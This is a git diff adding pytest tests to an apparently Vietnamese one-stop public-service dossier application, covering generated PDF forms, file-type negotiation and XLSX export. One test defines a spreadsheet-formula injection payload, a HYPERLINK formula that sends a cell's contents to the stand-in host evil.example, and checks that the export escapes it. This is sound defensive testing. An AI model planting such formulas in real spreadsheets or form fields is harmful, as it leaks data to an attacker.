@@ -8,7 +8,11 @@ import pytest
 from openpyxl import load_workbook
 
 from motcua.core.calendar import LOCAL_TZ
+from motcua.dossiers.forms import XLSX
 from tests.dossiers.helpers import act, submit
+from tests.factories import make_staff
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
 
 def local(day: int, hour: int, minute: int = 0) -> datetime:
@@ -144,3 +148,79 @@ def test_forms_of_another_agency_are_not_found_and_need_a_login(
     url = f"/api/v1/dossiers/{dossier['code']}/forms/01.pdf"
     assert api(other_receiver).get(url).status_code == 404
     assert api().get(url).status_code == 401
+
+
+def test_supplement_request_02_has_one_lead_in(api, late_dossier, receiver):
+    text = pdf_text(api(receiver), late_dossier["code"], "02")
+    assert "Bộ phận tiếp nhận và trả kết quả của UBND xã Hy Cương" in text
+    assert text.count("hồ sơ của:") == 1  # "Tiếp nhận hồ sơ của: …", said once
+    assert "Tiếp nhận hồ sơ của: Phạm Thị Hồng Nhung" in text
+    assert "Người hướng dẫn".upper() in text
+
+
+def test_apology_04_is_signed_by_the_head_of_the_responsible_agency(api, late_dossier, receiver):
+    text = pdf_text(api(receiver), late_dossier["code"], "04")
+    assert "THỦ TRƯỞNG CƠ QUAN" in text
+    assert "Lê Văn Lãnh" in text  # the commune's leader (approver)
+    assert "Trần Văn Chuyên" not in text  # the specialist who wrote the apology does not sign
+    assert "(Ký, ghi rõ họ tên và đóng dấu)" in text
+
+
+def test_apology_04_leaves_the_name_blank_when_the_head_is_not_known(
+    api, late_dossier, receiver, commune
+):
+    make_staff("lanhdao2", commune, "approver", full_name="Đỗ Thị Phó")  # two leaders: which?
+    text = pdf_text(api(receiver), late_dossier["code"], "04")
+    assert "THỦ TRƯỞNG CƠ QUAN" in text
+    assert "Lê Văn Lãnh" not in text and "Đỗ Thị Phó" not in text
+
+
+def test_the_place_line_is_the_agency_s_own_place(api, late_dossier, receiver, commune):
+    before = pdf_text(api(receiver), late_dossier["code"], "01")
+    assert "Phú Thọ, ngày" in before  # no place of its own: the province's
+    commune.place = "Hy Cương"
+    commune.save(update_fields=["place"])
+    after = pdf_text(api(receiver), late_dossier["code"], "01")
+    assert "Hy Cương, ngày" in after and "Phú Thọ, ngày" not in after
+    assert "UBND TỈNH PHÚ THỌ" in after  # the commune printed under its real parent
+
+
+@pytest.mark.parametrize(
+    "path, accept",
+    [
+        ("01.pdf", "application/pdf"),
+        ("01.pdf", "*/*"),
+        ("01.pdf", "application/pdf, application/json;q=0.5"),
+        ("06.xlsx", XLSX),
+        ("06.xlsx", "*/*"),
+    ],
+)
+def test_a_client_that_asks_for_the_file_type_gets_the_file(
+    api, late_dossier, receiver, path, accept
+):
+    response = api(receiver).get(
+        f"/api/v1/dossiers/{late_dossier['code']}/forms/{path}", HTTP_ACCEPT=accept
+    )
+    assert response.status_code == 200, response.content[:200]
+    assert response["Content-Type"] == (XLSX if path.endswith("xlsx") else "application/pdf")
+
+
+def test_errors_of_a_form_are_still_json_whatever_the_accept(api, clock, procedure, commune,
+                                                             receiver):  # fmt: skip
+    online = submit(api(receiver), procedure, commune, channel="online")
+    response = api(receiver).get(
+        f"/api/v1/dossiers/{online['code']}/forms/01.pdf", HTTP_ACCEPT="application/pdf"
+    )
+    assert response.status_code == 409
+    assert response.json()["code"] == "form_not_applicable"
+
+
+def test_control_slip_xlsx_keeps_formulas_out(api, clock, procedure, commune, receiver):
+    desk = api(receiver)
+    dossier = submit(desk, procedure, commune, channel="desk")
+    act(desk, dossier, "forward", note=EVIL)
+    response = desk.get(f"/api/v1/dossiers/{dossier['code']}/forms/06.xlsx")
+    cells = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()
+             for c in row if c.value]  # fmt: skip
+    assert all(c.data_type != "f" for c in cells)
+    assert "'" + EVIL in [c.value for c in cells]
